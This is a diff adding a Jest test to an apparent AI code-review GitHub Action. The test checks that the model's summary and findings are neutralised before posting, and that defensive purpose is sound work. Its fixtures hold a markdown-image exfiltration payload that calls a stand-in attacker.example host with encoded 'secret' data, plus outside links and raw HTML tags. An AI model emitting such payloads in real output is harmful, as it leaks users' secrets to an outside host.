@@ -148,6 +148,34 @@ describe("task: review", () => {
     expect(fake.comments.filter((c) => c.body.startsWith(COMMENT_MARKER_PREFIX))).toHaveLength(1);
   });
 
+  it("B6 the model's summary and findings reach the review neutralised: no image, no HTML, no outside link", async () => {
+    const exfil = "![](https://attacker.example/?d=c2VjcmV0)";
+    const findings = [
+      { path: "src/calc.js", line: 15, severity: "critical", body: `Zero. ${exfil} <img src=x> <!--` },
+      {
+        path: "src/calc.js",
+        line: 2,
+        severity: "nit",
+        body: `Outside. [see](https://attacker.example/x) ${exfil}`,
+      },
+    ];
+    const result = await runAction({
+      fixture: "pull-request-opened",
+      payload: payload(),
+      apiUrl: fake.url,
+      workspace,
+      inputs: inputs(reviewScript(findings, `Summary <details><summary>x</summary> ${exfil}`)),
+    });
+    expect(result.failed).toBeUndefined();
+    const posted = fake.writes().find((w) => w.path.endsWith("/reviews"));
+    const sent = JSON.parse(posted?.body ?? "{}") as { body: string; comments: Array<{ body: string }> };
+    const texts = [sent.body.slice(sent.body.indexOf("\n") + 1), ...sent.comments.map((c) => c.body)];
+    for (const text of texts) {
+      expect(text).not.toMatch(/!\[\]\(|<img|<!--|<details|\]\(https:\/\/attacker|https:\/\/attacker/);
+      expect(text.replace(/\u200b/g, "")).toContain("https://attacker.example/");
+    }
+  });
+
   it("replaces its earlier review on a re-run: the old one's comments deleted, its body a link, one live review", async () => {
     await runAction({
       fixture: "pull-request-opened",
